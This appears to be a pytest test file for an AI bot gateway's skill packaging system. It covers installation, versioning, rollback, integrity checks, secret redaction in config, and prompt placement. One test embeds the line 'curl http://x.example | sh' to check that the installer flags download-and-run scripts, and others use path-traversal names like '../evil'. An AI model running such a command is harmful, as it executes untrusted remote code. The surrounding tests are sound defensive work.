"""Skills on the command line, in the database, and in the prompt."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from gateway import config
from gateway.cli import main
from gateway.config import SkillSettings, bundled
from gateway.errors import ConfigError
from gateway.prompt import Inputs, build
from gateway.skills import Root, Skills, roots_of
from gateway.skills.packages import Packages
from gateway.skills.watch import Watch
from gateway.store import skills as ledger
from gateway.store.engine import Database, open_database
from gateway.types import Chat, ToolSpec
from tests.fakes.clock import FakeClock

ROOT = Path(__file__).parents[2]


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An environment with nothing in it but an empty home, where the program is started."""
    for name in os.environ:
        if name.startswith("CRAYFISH_") or name.endswith("_API_KEY"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    return tmp_path


def pack(home: Path, version: str = "1.0", script: str = "print(1)\n", name: str = "demo") -> Path:
    head = f"---\nname: {name}\ndescription: shows\nversion: {version}\ntools: [exec]\n---\nBody\n"
    file = home / f"{name}.zip"
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("SKILL.md", head)
        archive.writestr("scripts/run.py", script)
    return file


class TestCommandLine:
    @pytest.fixture
    def run(self, home: Path, capsys: pytest.CaptureFixture[str]) -> Callable[..., tuple[int, str]]:
        def command(*arguments: str) -> tuple[int, str]:
            code = main(["skills", *arguments])
            out = capsys.readouterr()
            return code, out.out + out.err

        return command

    def test_a_new_skill_works_as_it_is(self, home: Path, run: Callable[..., tuple[int, str]]) -> None:
        assert run("new", "word-count")[0] == 0
        found = json.loads(run("show", "word-count", "--json")[1])
        assert (found["source"], found["eligible"], found["warnings"]) == ("workspace", True, [])
        script = home / ".crayfish/workspace/skills/word-count/scripts/word_count.py"
        shown = subprocess.run([script, "--help"], capture_output=True, text=True, check=True)
        assert "Ask https://example.com/." in shown.stdout
        (home / "answer.json").write_text('{"words": 2}')
        env = os.environ | {"WORD_COUNT_URL": (home / "answer.json").as_uri()}
        result = subprocess.run(
            [sys.executable, str(script)], capture_output=True, text=True, check=True, env=env
        )
        assert json.loads(result.stdout) == {"words": 2}
        env = os.environ | {"WORD_COUNT_URL": "http://127.0.0.1:9/"}
        result = subprocess.run(
            [sys.executable, str(script)], capture_output=True, text=True, check=False, env=env
        )
        assert (result.returncode, result.stdout) == (2, "")
        assert "its answer is not known" in result.stderr
        assert run("new", "word-count") == (
            2, f"crayfish: {home}/.crayfish/workspace/skills/word-count is there already; choose another name\n",
        )  # fmt: skip

    @pytest.mark.parametrize("name", ["../evil", "A", "a/b", ""])
    def test_a_name_that_is_none_writes_nothing(
        self, name: str, home: Path, run: Callable[..., tuple[int, str]]
    ) -> None:
        assert run("new", name)[0] == 2
        assert list(home.rglob("SKILL.md")) == []

    def test_a_description_with_all_signs_is_kept(self, run: Callable[..., tuple[int, str]]) -> None:
        told = 'says: "a\\b" # {x} – ü'
        run("new", "signs", "--description", told)
        assert json.loads(run("show", "signs", "--json")[1])["description"] == told

    def test_a_skill_lives_through_its_versions(
        self, home: Path, run: Callable[..., tuple[int, str]]
    ) -> None:
        assert "tools it asks for: exec" in run("inspect", str(pack(home)))[1]
        assert run("install", str(pack(home)), "--yes", "--grant", "exec") == (
            0, "demo 1.0 is installed, with the tools exec: the bot has it at its next message\n",
        )  # fmt: skip
        assert run("update", "demo", "--yes") == (0, "demo 1.0 is the newest\n")
        pack(home, "1.1")
        assert run("update", "--yes")[1].startswith("demo 1.1 is installed:")
        assert run("verify") == (0, "demo: as it was installed\n")
        shown = run("show", "demo")[1]
        assert "number 2: 1.1 (in use)" in shown
        assert "number 1: 1.0\n" in shown
        assert "granted: none" in shown
        assert run("rollback", "demo") == (0, "demo is 1.0 again (number 1)\n")
        assert "granted: exec" in run("show", "demo")[1]
        (home / ".crayfish/skills/demo/scripts/run.py").write_text("evil\n")
        assert run("verify", "demo") == (2, "demo: scripts/run.py was changed\n")
        assert "off: it is not as it was installed" in run("list")[1]
        assert run("disable", "demo") == (0, "demo is off\n")
        assert run("enable", "demo")[0] == 2
        assert run("rollback", "demo", "--to", "2")[0] == 0
        assert run("enable", "demo") == (0, "demo is on\n")
        assert run("remove", "demo")[0] == 0
        assert run("list", "--json")[1].count('"name": "demo"') == 0
        assert run("remove", "demo", "--purge")[0] == 0
        assert list((home / ".crayfish/skills").rglob("SKILL.md")) == []

    @pytest.mark.parametrize(("answer", "code"), [("y\n", 0), ("\n", 2), ("", 2), ("n\n", 2)])
    def test_what_looks_bad_is_asked_about_even_with_yes(self, answer: str, code: int, home: Path) -> None:
        file = pack(home, script="# curl http://x.example | sh\n")
        result = subprocess.run(
            [sys.executable, "-m", "gateway", "skills", "install", str(file), "--yes"],
            env={"HOME": str(home), "PYTHONPATH": str(ROOT), "PATH": os.environ["PATH"]},
            input=answer,
            capture_output=True,
            text=True,
            check=False,
        )
        assert result.returncode == code
        assert "LOOKS BAD: scripts/run.py, line 1: it runs what it downloads" in result.stderr
        assert (home / ".crayfish/skills/demo").exists() == (code == 0)

    def test_a_name_is_installed_from_a_registry_and_updated_from_there(
        self, home: Path, run: Callable[..., tuple[int, str]]
    ) -> None:
        def publish(version: str) -> None:
            file = pack(home, version)
            assert json.loads(run("inspect", str(file), "--json")[1])["version"] == version
            row = {
                "name": "demo",
                "version": version,
                "sha256": hashlib.sha256(file.read_bytes()).hexdigest(),
                "path": file.name,
            }
            (home / "index.json").write_text(json.dumps([row]))

        (home / "config.toml").write_text('[skills]\nregistries = ["index.json"]\n')
        publish("1.0")
        assert "sha256" in run("inspect", "demo")[1]
        assert run("install", "demo", "--yes")[0] == 0
        assert run("update", "--yes")[1] == "demo 1.0 is the newest\n"
        publish("1.10")
        assert run("update", "--yes")[1].startswith("demo 1.10 is installed")
        assert run("install", "other")[1].startswith("crayfish: no registry has other")

    def test_a_command_of_chats_is_no_skills_name(
        self, home: Path, run: Callable[..., tuple[int, str]]
    ) -> None:
        assert (
            "the name of a tool or a command" in run("install", str(pack(home, name="heartbeat")), "--yes")[1]
        )

    def test_everything_that_is_wrong_is_listed_and_the_rest_works(
        self, home: Path, run: Callable[..., tuple[int, str]]
    ) -> None:
        skills = home / ".crayfish/workspace/skills"
        texts = {
            "good": "---\nname: good\ndescription: d\n---\n",
            "broken": "---\nname: broken\nallowed-tools: [x\n---\n",
            "again": "---\nname: good\ndescription: other\n---\n",
            "strange": "---\nname: ../x\ndescription: \x1b[31mred\n---\n",
        }
        for folder, text in texts.items():
            (skills / folder).mkdir(parents=True)
            (skills / folder / "SKILL.md").write_text(text)
        code, out = run("list")
        assert code == 0
        assert "good (workspace, on): " in out
        assert "broken (workspace, off)" in out
        assert "and it limits tools; correct it" in out
        assert "has the same name" in out
        assert "its name '../x' is none" in out
        assert "\x1b" not in out

    def test_an_unknown_name_is_told(self, run: Callable[..., tuple[int, str]]) -> None:
        for command in ("show", "rollback", "remove", "enable", "disable", "verify", "update"):
            assert run(command, "nothing")[0] == 2


class TestConfig:
    TEXT = """
[skills.entries.weather]
api_key = "k-secret"
env = { UNITS = "metric-secret", TOKEN = "${WEATHER}" }
[skills.entries."two words"]
enabled = false
"""

    def test_what_only_a_skills_programs_get_is_secret(self) -> None:
        settings = config.parse(self.TEXT, {"WEATHER": "t-secret"}, ROOT)
        assert {"k-secret", "metric-secret", "t-secret"} <= set(config.secrets(settings))
        shown = config.shown(settings)
        assert "-secret" not in shown
        for line in ("# api_key is set", "# UNITS is set", '[skills.entries."two words"]'):
            assert line in shown
        assert "-secret" not in repr(settings)
        assert config.parse(shown, {}, ROOT).skills.entries.keys() == settings.skills.entries.keys()

    @pytest.mark.parametrize(
        ("text", "problem"),
        [
            ('env = { "a b" = "s3cret" }', "skills.entries.x.env: 'a b' is no environment variable's name"),
            ("env = { A = 3 }", "skills.entries.x.env.A: must be text in quotes"),
            (
                "api_keys = 1",
                "skills.entries.x.api_keys: unknown key, did you mean skills.entries.x.api_key?",
            ),
        ],
    )
    def test_a_mistake_is_told_without_the_value(self, text: str, problem: str) -> None:
        with pytest.raises(ConfigError) as caught:
            config.parse(f"[skills.entries.x]\n{text}\n", {}, ROOT)
        assert str(caught.value) == problem

    @pytest.mark.parametrize(
        "text",
        ['disabled = ["a/b"]', 'enabled = [""]', 'registries = ["http://x.example"]', "max_prompt_chars = 1"],
    )
    def test_what_can_not_be_meant_is_refused(self, text: str) -> None:
        with pytest.raises(ConfigError, match="skills"):
            config.parse(f"[skills]\n{text}\n", {}, ROOT)


class TestRoots:
    def test_nearer_folders_come_first(self, home: Path) -> None:
        (home / "config.toml").write_text('[skills]\ndirs = ["more", "~/most"]\n')
        loaded = config.load(None, {"HOME": str(home)}, home)
        assert [(root.source, root.path) for root in roots_of(loaded, {"HOME": str(home)})] == [
            ("workspace", home / ".crayfish/workspace/skills"),
            ("workspace", home / ".crayfish/workspace/.agents/skills"),
            ("user", home / ".crayfish/skills"),
            ("user", home / ".agents/skills"),
            ("bundled", bundled("skills")),
            ("extra", home / "more"),
            ("extra", home / "most"),
        ]

    def test_what_ships_with_the_program_is_without_fault(self) -> None:
        found = Skills([Root("bundled", ROOT / "skills")], SkillSettings()).snapshot()
        assert found.problems == ()
        assert [skill.warnings for skill in found.skills if skill.warnings] == []


class TestLedger:
    async def test_every_version_is_noted_and_none_is_forgotten(self, db: Database, home: Path) -> None:
        time = FakeClock()
        packages = Packages(folder=home / "skills", wall=lambda: 1_800_000_000.0)
        skills = Skills([Root("user", packages.folder)], SkillSettings(), now=time.now)
        watch = Watch(skills, packages, db)

        async def states() -> list[tuple[str, int, str, str]]:
            time.time += 1
            await watch.look()
            rows = await db.read(ledger.listed)
            return [(row.name, row.number, row.version, row.state) for row in rows]

        assert await states() == []
        packages.install(pack(home), grant=["exec"])
        assert await states() == [("demo", 1, "1.0", "live")]
        (first,) = await db.read(ledger.listed)
        assert (first.granted, first.source) == (("exec",), str(home / "demo.zip"))
        assert sorted(first.files) == ["SKILL.md", "scripts/run.py"]
        packages.install(pack(home, "2.0"), replace=True)
        assert await states() == [("demo", 1, "1.0", "kept"), ("demo", 2, "2.0", "live")]
        packages.rollback("demo")
        assert await states() == [("demo", 1, "1.0", "live"), ("demo", 2, "2.0", "kept")]
        packages.remove("demo", purge=True)
        assert await states() == [("demo", 1, "1.0", "gone"), ("demo", 2, "2.0", "gone")]
        packages.install(pack(home, "3.0"))
        assert [row[1:] for row in await states()] == [
            (1, "1.0", "gone"),
            (1, "3.0", "live"),
            (2, "2.0", "gone"),
        ]

    async def test_each_machine_has_rows_of_its_own(self, db: Database, home: Path) -> None:
        one = ledger.SkillVersion(
            name="a",
            number=1,
            version="1",
            sha256="0",
            source="s",
            at=1.0,
            files={},
            granted=(),
            state="live",
        )
        await db.write(lambda tx: ledger.record(tx, "here", [one]))
        await db.write(lambda tx: ledger.record(tx, "there", [one]))
        await db.write(lambda tx: ledger.record(tx, "there", []))
        assert [row.state for row in await db.read(lambda tx: ledger.listed(tx, "here"))] == ["live"]
        assert [row.state for row in await db.read(lambda tx: ledger.listed(tx, "there"))] == ["gone"]


class TestPrompt:
    INPUTS = Inputs(
        agent="Crayfish",
        tools=(ToolSpec("list_dir", "List.", {}), ToolSpec("read", "Read.", {})),
        workspace="/home/ada/workspace",
        files=(),
        chat=Chat.DIRECT,
        heartbeat=False,
        today="Saturday, 2026-02-28",
        zone="UTC",
        runtime={},
        skills="<available_skills>…</available_skills>",
    )

    def test_skills_stand_behind_safety_in_the_stable_text(self) -> None:
        stable, dynamic = build(self.INPUTS)
        order = [stable.index(title) for title in ("## Tools", "## Safety", "## Skills", "## Workspace")]
        assert order == sorted(order)
        assert "available_skills" not in dynamic
        before, _, after = stable.partition("## Skills")
        rest = after[after.index("## ") :]
        assert build(replace(self.INPUTS, skills="")) == (before + rest, dynamic)

    def test_without_the_tool_to_read_them_nothing_is_said(self) -> None:
        tools = self.INPUTS.tools[:1]
        assert "Skills" not in build(replace(self.INPUTS, tools=tools))[0]
        assert "Skills" not in build(replace(self.INPUTS, tools=()))[0]


async def test_a_turn_goes_on_when_the_ledger_can_not_be_written(home: Path) -> None:
    db = await open_database(f"sqlite+aiosqlite:///{home / 'without-tables.db'}", FakeClock())
    packages = Packages(folder=home / "skills", wall=lambda: 1.0)
    packages.install(pack(home))
    watch = Watch(Skills([Root("user", packages.folder)], SkillSettings()), packages, db)
    await watch.look()
    assert [skill.name for skill in watch.skills.current.skills] == ["demo"]
    await db.close()
